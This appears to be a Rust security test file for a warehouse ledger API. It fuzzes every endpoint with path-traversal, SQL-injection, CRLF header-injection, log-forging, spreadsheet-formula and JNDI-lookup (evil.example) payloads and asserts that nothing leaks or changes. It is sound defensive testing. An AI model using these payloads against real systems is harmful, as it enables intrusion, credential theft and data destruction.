//! Texts that want to be paths, SQL, formulas, log lines or field names: through every operation that the
//! API describes.

use gatewarden_tests::{BOLT, Caller, Gateway, Settings, receipt};
use reqwest::Method;
use serde_json::{Value, json};

use super::{machine, raw, rights, staffed};

/// As they stand in a path, percent-encoded where they must be.
const IN_PATHS: [&str; 16] = [
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5cledger.key",
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    "ledger.key%00.json",
    "%c0%ae%c0%ae%c0%afetc",
    "'%20OR%20'1'='1",
    "x';DROP%20TABLE%20entry;--",
    "%22%20UNION%20SELECT%20phc%20FROM%20credential--",
    "1;ATTACH%20DATABASE%20'%2ftmp%2fx'%20AS%20x",
    "%25%27%20ESCAPE%20'",
    "{{7*7}}",
    "%0d%0aX-Injected:%201",
    "%e2%80%aexcod",
];
/// As they stand in a text.
const IN_TEXTS: [&str; 9] = [
    "' OR '1'='1",
    "x'); DELETE FROM entry; --",
    "\" UNION SELECT phc FROM credential --",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "line\nFORGED ERROR gatewarden: forged",
    "\u{1b}[2J\u{1b}[31mFORGED",
    "\u{0}",
    "${jndi:ldap://evil.example/x}",
];
/// What no answer says: of a file, of the database, of a panic.
const LEAKS: [&str; 8] =
    ["root:", "sqlite", "syntax error", "no such table", "$argon2", "panicked", "/src/", "PRIVATE"];

fn leaks(body: &Value) -> Option<&'static str> {
    let text = body.to_string();
    LEAKS.into_iter().find(|leak| text.contains(leak))
}

/// Method and path of every operation.
async fn operations(caller: &Caller) -> Vec<(Method, String)> {
    let api = caller.get("/openapi.json").await;
    let paths = api["paths"].as_object().unwrap().clone();
    let of = |(path, item): (String, Value)| {
        let methods: Vec<String> = item.as_object().unwrap().keys().cloned().collect();
        methods.into_iter().map(move |m| (m.to_uppercase().parse().unwrap(), path.clone()))
    };
    paths.into_iter().flat_map(of).collect()
}

/// A path with a text in each of its places.
fn filled(path: &str, text: &str) -> String {
    let parts = path.split('/').map(|part| if part.starts_with('{') { text } else { part });
    parts.collect::<Vec<_>>().join("/")
}

fn good_body(path: &str) -> Option<Value> {
    let document = json!({"kind": "adjustment-request", "number": "A-1"});
    Some(match path {
        "/tasks" => receipt("9501", 1).task(),
        "/api/v1/postings" => json!({"id": uuid::Uuid::new_v4(), "kind": "adjustment",
            "reason": "found", "document": document, "lines": [{"line": 10, "item": "BOLT-M8",
            "quantity": "1", "from": "@loss/found", "to": "wh1/dock"}]}),
        "/api/v1/tags" => json!({"tag": format!("(01){BOLT}(21)77"), "item": "BOLT-M8",
            "reason": "torn off", "lot": "L1", "serial": "77"}),
        "/api/v1/labels" => {
            json!({"printer": "printer", "template": "pallet", "data": {"name": "n"}})
        }
        "/api/v1/labels/{id}/decide" => json!({"decision": "void", "why": "so"}),
        "/api/v1/landed-costs" => json!({"movement": uuid::Uuid::new_v4(), "document": document,
            "amounts": ["1"]}),
        "/api/v1/periods/close" => json!({"until": "2020-01-01"}),
        "/operators" => json!({"operator": "eve", "name": "Eve", "roles": ["storekeeper"],
            "badges": ["OP-6001"]}),
        "/clients" => json!({"client": "eve", "scopes": ["ledger:view"]}),
        "/session" | "/stations/{station}/session" => json!({"badge": "OP-6001", "pin": "8264"}),
        "/enrol" => json!({"code": "AAAA", "operator": "eve", "name": "Eve", "badge": "OP-6001",
            "pin": "8264"}),
        path if path.ends_with("/void") || path.ends_with("/dismiss") => json!({"reason": "so"}),
        path if path.ends_with("/decision") => json!({"verdict": "reject", "reason": "so"}),
        _ => return None,
    })
}

/// The bodies that come of one when each of its texts in turn is another.
fn mutants(body: &Value, text: &str) -> Vec<Value> {
    fn places(value: &Value, at: &str, found: &mut Vec<String>) {
        match value {
            Value::String(_) => found.push(at.to_owned()),
            Value::Array(list) => {
                list.iter().enumerate().for_each(|(n, v)| places(v, &format!("{at}/{n}"), found));
            }
            Value::Object(map) => {
                map.iter().for_each(|(key, v)| places(v, &format!("{at}/{key}"), found));
            }
            _ => {}
        }
    }
    let mut found = Vec::new();
    places(body, "", &mut found);
    let with = |at: String| {
        let mut other = body.clone();
        *other.pointer_mut(&at).unwrap() = json!(text);
        other
    };
    found.into_iter().map(with).collect()
}

fn rows(gateway: &Gateway, table: &str) -> i64 {
    let sql = format!("SELECT count(*) FROM {table}");
    gatewarden_tests::read_rows(&gateway.ledger(), &sql, |row| row.get(0))[0]
}

#[tokio::test(flavor = "multi_thread")]
async fn no_path_and_no_text_of_any_operation_is_anything_but_a_text() {
    let (gateway, people) = staffed(Settings::default()).await;
    let all = machine(&gateway, "omni", &rights()).await;
    let stock = all.get("/stock").await;
    let credentials = rows(&gateway, "credential");
    let mut walked = 0;
    for (method, path) in operations(&all).await {
        if path.contains('{') {
            for text in IN_PATHS {
                let target = filled(&path, text);
                let answer = all.ask(method.clone(), &target, good_body(&path).as_ref()).await;
                let status = answer.status;
                assert!(
                    (200..500).contains(&status),
                    "{method} {target}: {status} {}",
                    answer.body
                );
                assert_eq!(leaks(&answer.body), None, "{method} {target}: {}", answer.body);
                let gives = status == 200 && answer.body != json!([]);
                assert!(!gives, "{method} {target} gives {}", answer.body);
                walked += 1;
            }
        }
        let Some(body) = good_body(&path).filter(|_| method != Method::GET) else { continue };
        for text in IN_TEXTS {
            for mutant in mutants(&body, text) {
                let target = path.replace("{station}", "dock-1");
                let target = filled(&target, "0a0a0a0a-0000-4000-8000-000000000000");
                let answer = all.ask(method.clone(), &target, Some(&mutant)).await;
                let status = answer.status;
                assert!((200..500).contains(&status), "{method} {target} {mutant}: {status}");
                assert_eq!(leaks(&answer.body), None, "{method} {target}: {}", answer.body);
                walked += 1;
            }
        }
    }
    assert!(walked > 700, "only {walked} were tried");
    assert_eq!(all.get("/stock").await, stock);
    assert_eq!(rows(&gateway, "credential"), credentials);
    people.viewer.get("/operators").await;
    gateway.cli_ok(&["ledger", "verify"], "");

    // What was recorded of it stays one line each in log, journal and tables.
    assert!(!gateway.has_logged("\u{1b}"), "an escape came into the log");
    assert_eq!(gateway.logged(|line| line.starts_with("FORGED").then(|| line.to_owned())), None);
    let texts: Vec<String> =
        gatewarden_tests::read_rows(&gateway.ledger(), "SELECT bytes FROM entry", |row| row.get(0));
    let control = |text: &&String| text.chars().any(char::is_control);
    assert_eq!(texts.iter().find(control), None);
    for subject in [["client", "omni"], ["document", "A-1"], ["document", "9501"]] {
        let output = gateway.cli(&["ledger", "trace", subject[0], subject[1]], "");
        let trace = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(!trace.contains('\u{1b}') && !trace.contains("\nFORGED"), "{trace}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_path_does_not_climb_out_as_it_is_sent() {
    let (gateway, _people) = staffed(Settings::default()).await;
    // A client that does not tidy up dots; nobody is signed in.
    for target in [
        "/../../etc/passwd",
        "/stations/../../etc/passwd",
        "/stations/dock-1/../../../ledger.key",
        "/stations/..%2f..%2fledger.key/page",
        "/stations/%2e%2e/page",
        "/stations/dock-1%00/page",
        "/stations/dock-1%2fpage",
        "//etc/passwd",
        "/trace/item/../../../etc/passwd",
        "\\..\\..\\etc\\passwd",
    ] {
        let bytes = raw::request(&format!("GET {target} HTTP/1.1"), &["Host: localhost"], b"");
        let reply = raw::send(gateway.address(), &bytes);
        assert!(matches!(reply.status, 400 | 401 | 404), "{target}: {reply:?}");
        assert!(
            !reply.head.contains("root:") && leaks(&reply.body).is_none(),
            "{target}: {reply:?}"
        );
    }
    // A header's line can't be ended from outside.
    let page = "GET /stations/dock-1%0d%0aX-Injected:%201/page HTTP/1.1";
    let reply = raw::send(gateway.address(), &raw::request(page, &["Host: localhost"], b""));
    assert_eq!(reply.status, 404, "{reply:?}");
    assert_eq!(reply.header("x-injected"), None);
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_guesses_words_of_a_query_learns_none() {
    let (gateway, people) = staffed(Settings::default()).await;
    let all = machine(&gateway, "omni", &rights()).await;
    let mut told = Vec::new();
    for (_, path) in operations(&all).await.into_iter().filter(|(method, _)| method == Method::GET)
    {
        if matches!(path.as_str(), "/health") {
            continue;
        }
        let path = filled(&path.replace("{station}", "dock-1"), "1");
        for guess in [
            "value=1",
            "cost=1",
            "price=1",
            "pin=1",
            "phc=1",
            "sort=value",
            "order_by=price",
            "fields=*",
            "item.price=1",
            "__proto__=1",
            "limit=1&limit=2",
            "item=A&item=B",
            "%6Cimitx=1",
            "limit=%ff",
            "filter[value]=1",
        ] {
            let answer = all.ask(Method::GET, &format!("{path}?{guess}"), None).await;
            assert_eq!(answer.status, 400, "{path}?{guess}: {}", answer.body);
            assert_eq!(answer.body["code"], "bad-query", "{path}?{guess}");
            told.push(answer.body.to_string());
        }
    }
    told.sort_unstable();
    told.dedup();
    assert_eq!(told.len(), 1, "they are told apart: {told:?}");
    // Who is nobody does not even learn that.
    for guess in ["limit=1", "cost=1"] {
        let answer = gateway.anybody().ask(Method::GET, &format!("/movements?{guess}"), None).await;
        assert_eq!(answer.status, 401, "{guess}");
    }
    // What is described is taken.
    for path in ["/movements?limit=1&before=3", "/api/v1/stock?item=BOLT-M8&all=true", "/movements"]
    {
        people.viewer.get(path).await;
    }
    let bad = people.viewer.ask(Method::GET, "/movements?limit=x", None).await;
    assert_eq!((bad.status, &bad.body["code"]), (400, &json!("bad-query")));
}

#[tokio::test(flavor = "multi_thread")]
async fn no_name_is_a_formula_or_a_second_row_in_a_table() {
    let (gateway, _people) = staffed(Settings::default()).await;
    for (n, name) in ["=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)"].iter().enumerate() {
        let body = json!({"operator": format!("eve{n}"), "name": name, "roles": ["storekeeper"],
            "badges": [format!("OP-66{n}")]});
        let answer = gateway.local().post("/operators", &body).await;
        assert!(matches!(answer.status, 202 | 422), "{}", answer.body);
    }
    let listed = gateway.cli_ok(&["operator", "list"], "");
    let mut rows = 0;
    for line in listed.lines() {
        let cells: Vec<&str> = line.split('\t').collect();
        assert_eq!(cells.len(), 7, "{line}");
        let formula = |cell: &&str| cell.starts_with(['=', '+', '-', '@']);
        assert_eq!(cells.iter().find(|cell| formula(cell)), None, "{line}");
        rows += 1;
    }
    assert!(rows >= 5, "{listed}");
}
